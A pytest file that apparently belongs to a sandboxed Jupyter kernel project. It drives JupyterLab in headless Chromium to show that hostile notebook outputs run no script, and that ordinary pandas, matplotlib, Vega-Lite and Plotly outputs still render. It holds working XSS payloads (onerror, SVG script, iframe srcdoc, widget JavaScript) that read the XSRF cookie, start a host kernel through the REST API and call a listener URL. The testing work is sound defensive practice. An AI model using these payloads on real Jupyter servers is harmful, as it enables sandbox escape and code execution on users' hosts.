"""JupyterLab in a real browser: hostile outputs from the sandbox run no script there.

The chain this guards: a cell displays HTML whose script, running in JupyterLab with
the user's session, starts a plain kernel on the host through Jupyter Server's REST
API. Here JupyterLab (its normal token and XSRF protection) runs in Debian's headless
Chromium, driven by Playwright, and a notebook of hostile outputs runs through the
sandbox kernel. With the defaults:

* no script ran: the marker every script would set stays unset, and the server still
  has one kernel, the sandbox;
* no request left the page: the loopback listener the outputs point at hears nothing,
  and the browser made no request to another origin;
* every cell's real usage line is visible (a ``<style>`` output cannot hide them).

Negative control: the same notebook through a kernel with ``allow_scripts_in_output``
does run script (the marker is set, and a second kernel is started on the host).

And what people display every day still renders in JupyterLab after the cleaning: a
DataFrame, a pandas ``Styler`` with its colours, a matplotlib SVG, a Vega-Lite chart.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from harness import KernelSpecs

pytestmark = pytest.mark.docker

CHROMIUM = "/usr/bin/chromium"

playwright_api = pytest.importorskip("playwright.sync_api")
if not Path(CHROMIUM).exists():  # setup.sh installs it; without it this must fail, not skip
    raise RuntimeError(f"{CHROMIUM} is missing: run scripts/setup.sh (it installs Debian's chromium)")


class Listener:
    """A loopback HTTP server that records every request (data leaving the page)."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                listener.requests.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


#: What every script in the notebook does: set the marker, then try the escape itself.
def _script(leak: str) -> str:
    return (
        "window.__sandbox_pwned = true; "
        "var x = document.cookie.match(/_xsrf=([^;]+)/); "
        "fetch('/api/kernels', {method: 'POST', headers: {'X-XSRFToken': x ? decodeURIComponent(x[1]) : ''}, "
        "body: JSON.stringify({name: 'python3'})}); "
        f"fetch('{leak}/script')"
    )


def _cells(leak: str) -> list[str]:
    js = _script(leak)
    handler = js.replace('"', "&quot;")
    img = f'<img alt=">" src=x onerror="{handler}">'
    frames = (f"<svg><script>{js}</script></svg>"
              f'<iframe srcdoc="<script>parent.{handler}</script>"></iframe>')
    remote = f'<img src="{leak}/img"><div style="background:url({leak}/css)">bg</div>'
    hide = "<style>.sandbox-kernel-usage, .jp-OutputArea-output {display: none !important}</style>styled"
    widget_output = {"output_type": "display_data", "metadata": {},
                     "data": {"application/javascript": js, "text/plain": "o"}}
    return [
        "from IPython.display import display, HTML, Markdown, Javascript",
        f"display(HTML({img!r}))",
        f"display({{'text/html': ['<img src=x ', {img[7:]!r}]}}, raw=True)",
        f"display(Markdown({'hello ' + img!r}))",
        f"display(Javascript({js!r}))",
        f"display(HTML({frames!r}))",
        f"display(HTML({remote!r}))",
        f"display(Markdown({f'![chart]({leak}/md)'!r}))",
        f"display(HTML({hide!r}))",
        f"import ipywidgets as w\ndisplay(w.HTML(value={img!r}))\n"
        f"out = w.Output()\nout.outputs = ({widget_output!r},)\ndisplay(out)",
        "print('done')",
    ]


def _notebook(path: Path, kernel_name: str, cells: list[str]) -> None:
    path.write_text(json.dumps({
        "nbformat": 4, "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": kernel_name, "display_name": kernel_name, "language": "python"}},
        "cells": [
            {"cell_type": "code", "id": uuid.uuid4().hex[:8], "source": c, "metadata": {},
             "outputs": [], "execution_count": None}
            for c in cells
        ],
    }))


class Lab:
    """A JupyterLab server on loopback, with the test kernelspecs."""

    def __init__(self, specs: KernelSpecs) -> None:
        self.root = Path(tempfile.mkdtemp(prefix="sk-lab-"))
        self.token = uuid.uuid4().hex
        self.port = _free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        env = {
            **os.environ,
            "JUPYTER_PATH": str(specs.root),
            "JUPYTER_CONFIG_DIR": str(self.root / ".config"),
            "JUPYTER_RUNTIME_DIR": str(self.root / ".runtime"),
            "JUPYTERLAB_SETTINGS_DIR": str(self.root / ".settings"),
            "JUPYTERLAB_WORKSPACES_DIR": str(self.root / ".workspaces"),
        }
        # Every cell rendered (not only those in view), and no news prompt over them.
        for plugin, values in {
            "@jupyterlab/notebook-extension/tracker": {"windowingMode": "none"},
            "@jupyterlab/apputils-extension/notification": {"fetchNews": "false", "checkForUpdates": False},
        }.items():
            settings = self.root / ".settings" / f"{plugin}.jupyterlab-settings"
            settings.parent.mkdir(parents=True, exist_ok=True)
            settings.write_text(json.dumps(values))
        self.log = open(self.root / "lab.log", "w")  # noqa: SIM115
        self.process = subprocess.Popen(
            [sys.executable, "-m", "jupyterlab", "--no-browser", "--ip=127.0.0.1",
             f"--port={self.port}", f"--ServerApp.token={self.token}",
             f"--ServerApp.root_dir={self.root}", "--allow-root",
             "--LabApp.news_url=", "--LabApp.check_for_updates_class=jupyterlab.NeverCheckForUpdate"],
            env=env, stdout=self.log, stderr=subprocess.STDOUT,
        )
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError):
                self.api("status")
                return
            time.sleep(0.3)
        raise RuntimeError(f"JupyterLab did not start: {(self.root / 'lab.log').read_text()[-2000:]}")

    def api(self, path: str) -> Any:
        request = urllib.request.Request(f"{self.url}/api/{path}", headers={"Authorization": f"token {self.token}"})
        with urllib.request.urlopen(request, timeout=10) as response:
            return json.loads(response.read())

    def wait_for_kernel(self, notebook: str, timeout: float = 120) -> None:
        """Until the server has an idle kernel in a session for ``notebook``."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            for session in self.api("sessions"):
                kernel = session.get("kernel") or {}
                if session.get("path") == notebook and kernel.get("execution_state") == "idle":
                    return
            time.sleep(0.5)
        raise AssertionError(f"no kernel started for {notebook}: {self.api('sessions')}")

    def delete(self, path: str) -> None:
        request = urllib.request.Request(
            f"{self.url}/api/{path}", method="DELETE", headers={"Authorization": f"token {self.token}"}
        )
        with contextlib.suppress(OSError):
            urllib.request.urlopen(request, timeout=30).close()

    def close(self) -> None:
        self.process.terminate()
        with contextlib.suppress(subprocess.TimeoutExpired):
            self.process.wait(20)
        if self.process.poll() is None:
            self.process.kill()
        self.log.close()
        shutil.rmtree(self.root, ignore_errors=True)


@pytest.fixture(scope="module")
def lab(docker_client: object, specs: KernelSpecs) -> Iterator[Lab]:
    lab = Lab(specs)
    yield lab
    lab.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


#: Everyday outputs that must still render after the sanitiser (as on a plain kernel).
_VEGA_LITE = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"values": [{"day": 1, "pnl": 3}, {"day": 2, "pnl": -1}, {"day": 3, "pnl": 4}]},
    "mark": "bar",
    "encoding": {"x": {"field": "day", "type": "ordinal"}, "y": {"field": "pnl", "type": "quantitative"}},
}
EVERYDAY_CELLS = [
    "import pandas as pd\ndf = pd.DataFrame({'close': [101.5, 99.25, 103.0]})\ndisplay(df)",
    "display(df.style.background_gradient())",
    "import matplotlib.pyplot as plt\n%config InlineBackend.figure_formats = ['svg']\nplt.plot([1, 3, 2]); plt.show()",
    f"display({{'application/vnd.vegalite.v5+json': {_VEGA_LITE!r}, 'text/plain': 'chart'}}, raw=True)",
    # Drawn by Plotly's own JupyterLab renderer (the labextension of the plotly package)
    # from its JSON mimetype: no script of the cell runs.
    "import plotly.express as px\npx.line(x=[1, 2, 3], y=[2, 1, 3], title='<b>PnL</b>')",
    "print('done')",
]


def _open_and_run_all(lab: Lab, page: Any, name: str) -> None:
    """Open ``name`` in JupyterLab, wait for its kernel, and Run All Cells from the menu."""
    # A workspace of its own: nothing of an earlier page is restored beside it.
    workspace = f"ws-{uuid.uuid4().hex[:8]}"
    page.goto(f"{lab.url}/lab/workspaces/{workspace}/tree/{name}?token={lab.token}&reset", timeout=60_000)
    page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=60_000)
    # The page starts the notebook's kernel: wait until the server has it, idle.
    lab.wait_for_kernel(name)
    page.wait_for_selector(".jp-Notebook-ExecutionIndicator[data-status='idle']", timeout=120_000)
    page.locator(".jp-Notebook").first.click()
    page.keyboard.press("Escape")
    page.get_by_role("menuitem", name="Run", exact=True).click()
    page.get_by_role("menuitem", name="Run All Cells", exact=True).click()


def _run_notebook(
    lab: Lab, browser: Any, kernel_name: str, listener: Listener, cells: list[str] | None = None,
    probe: str = "",
) -> dict[str, Any]:
    name = f"hostile-{uuid.uuid4().hex[:6]}.ipynb"
    cells = cells or _cells(listener.url)
    _notebook(lab.root / name, kernel_name, cells)
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    foreign: list[str] = []
    origin = lab.url

    def on_request(request: Any) -> None:
        if not request.url.startswith((origin + "/", "data:", "blob:", "about:")):
            foreign.append(request.url)

    page.on("request", on_request)
    try:
        _open_and_run_all(lab, page, name)
        # Every cell has run when the last one printed and every usage line is there.
        done = page.locator(".jp-OutputArea-output", has_text="done").first
        try:
            done.wait_for(state="attached", timeout=120_000)
        except playwright_api.TimeoutError:
            shot = lab.root.parent / f"{lab.root.name}-{name}.png"
            page.screenshot(path=str(shot))
            log = (lab.root / "lab.log").read_text()[-3000:]
            raise AssertionError(f"the notebook did not finish (screenshot {shot}); server log:\n{log}") from None
        usage = page.locator(".sandbox-kernel-usage")
        deadline = time.monotonic() + 60
        while usage.count() < len(cells) and time.monotonic() < deadline:
            time.sleep(0.5)
        time.sleep(2)  # what a script would fetch or start has time to happen
        if os.environ.get("SANDBOX_KERNEL_SCREENSHOT"):
            page.screenshot(path=os.environ["SANDBOX_KERNEL_SCREENSHOT"], full_page=True)
        return {
            "probe": page.evaluate(probe) if probe else None,
            "pwned": page.evaluate("() => window.__sandbox_pwned === true"),
            "usage_lines": usage.count(),
            "usage_visible": sum(1 for i in range(usage.count()) if usage.nth(i).is_visible()),
            "cells": len(cells),
            "foreign": foreign,
            "listener": list(listener.requests),
            "kernels": len(lab.api("kernels")),
        }
    finally:
        page.close()
        for session in lab.api("sessions"):
            lab.delete(f"sessions/{session['id']}")
        for kernel in lab.api("kernels"):
            lab.delete(f"kernels/{kernel['id']}")


def test_hostile_outputs_run_no_script_in_jupyterlab(lab: Lab, browser: Any, specs: KernelSpecs) -> None:
    listener = Listener()
    try:
        seen = _run_notebook(lab, browser, specs.make(), listener)
    finally:
        listener.close()
    assert seen["pwned"] is False, "a script from the sandbox ran in JupyterLab"
    assert seen["kernels"] == 1, "a script started a kernel on the host through the REST API"
    assert seen["listener"] == [], f"outputs sent requests out of the page: {seen['listener']}"
    assert seen["foreign"] == [], f"the page fetched from another origin: {seen['foreign']}"
    assert seen["usage_lines"] == seen["cells"], seen
    assert seen["usage_visible"] == seen["cells"], f"usage lines hidden: {seen}"


def test_the_same_notebook_runs_script_without_the_sanitiser(lab: Lab, browser: Any, specs: KernelSpecs) -> None:
    listener = Listener()
    try:
        seen = _run_notebook(lab, browser, specs.make(allow_scripts_in_output=True), listener)
    finally:
        listener.close()
    assert seen["pwned"] is True, f"negative control: no script ran even unsanitised: {seen}"
    assert seen["kernels"] >= 2, f"negative control: no kernel was started on the host: {seen}"
    assert seen["listener"], f"negative control: nothing left the page: {seen}"


def test_everyday_outputs_render_as_on_a_plain_kernel(lab: Lab, browser: Any, specs: KernelSpecs) -> None:
    listener = Listener()
    probe = """() => ({
        table: document.querySelectorAll('.jp-OutputArea-output table.dataframe').length,
        styled: Array.from(document.querySelectorAll('.jp-OutputArea-output td'))
            .filter(td => td.style.backgroundColor).length,
        svg: document.querySelectorAll('.jp-OutputArea-output img[src^="data:image/svg+xml"]').length,
        vega: document.querySelectorAll('.jp-OutputArea-output .vega-embed, .jp-OutputArea-output canvas, .jp-OutputArea-output svg.marks').length,
        plotly: document.querySelectorAll('.jp-RenderedPlotly.js-plotly-plot svg.main-svg').length,
        plotlyTitle: Array.from(document.querySelectorAll('.jp-RenderedPlotly.js-plotly-plot .gtitle'))
            .map(t => t.textContent).join('|'),
        notices: Array.from(document.querySelectorAll('.jp-OutputArea-output'))
            .filter(o => o.textContent.includes('[sandbox-kernel:')).length,
    })"""
    try:
        seen = _run_notebook(lab, browser, specs.make(), listener, EVERYDAY_CELLS, probe)
    finally:
        listener.close()
    found = seen["probe"]
    assert found["table"] >= 1, found
    assert found["styled"] >= 3, f"Styler's colours did not survive: {found}"
    assert found["svg"] >= 1, f"the matplotlib SVG is not shown: {found}"
    assert found["vega"] >= 1, f"the Vega-Lite chart is not drawn: {found}"
    assert found["plotly"] >= 1, f"the plotly figure is not drawn: {found}"
    assert found["plotlyTitle"] == "PnL", f"the plotly title is not shown: {found}"
    assert found["notices"] == 0, f"everyday outputs reported as cleaned: {found}"
    assert seen["foreign"] == [] and seen["usage_visible"] == seen["cells"], seen


def test_jupyterlab_saves_the_environment_record(lab: Lab, browser: Any, specs: KernelSpecs) -> None:
    """JupyterLab copies the kernel's language_info into the notebook it saves (issue 14)."""
    name = f"record-{uuid.uuid4().hex[:6]}.ipynb"
    _notebook(lab.root / name, specs.make(memory="1g"), ["print('done')"])
    page = browser.new_page(viewport={"width": 1200, "height": 800})
    try:
        _open_and_run_all(lab, page, name)
        page.locator(".sandbox-kernel-usage").first.wait_for(state="attached", timeout=120_000)
        page.keyboard.press("Control+s")
        record: dict[str, Any] = {}
        deadline = time.monotonic() + 30
        while not record and time.monotonic() < deadline:
            saved = json.loads((lab.root / name).read_text())
            record = saved["metadata"].get("language_info", {}).get("sandbox") or {}
            time.sleep(0.5)
    finally:
        page.close()
        for session in lab.api("sessions"):
            lab.delete(f"sessions/{session['id']}")
    assert record, "JupyterLab saved no sandbox record in language_info"
    assert "sha256:" in record["image_ref"]
    assert record["limits"]["memory"] == "1g"
    assert record["validation_profile"] == "notebook"
    assert saved["metadata"]["language_info"]["name"] == "python"
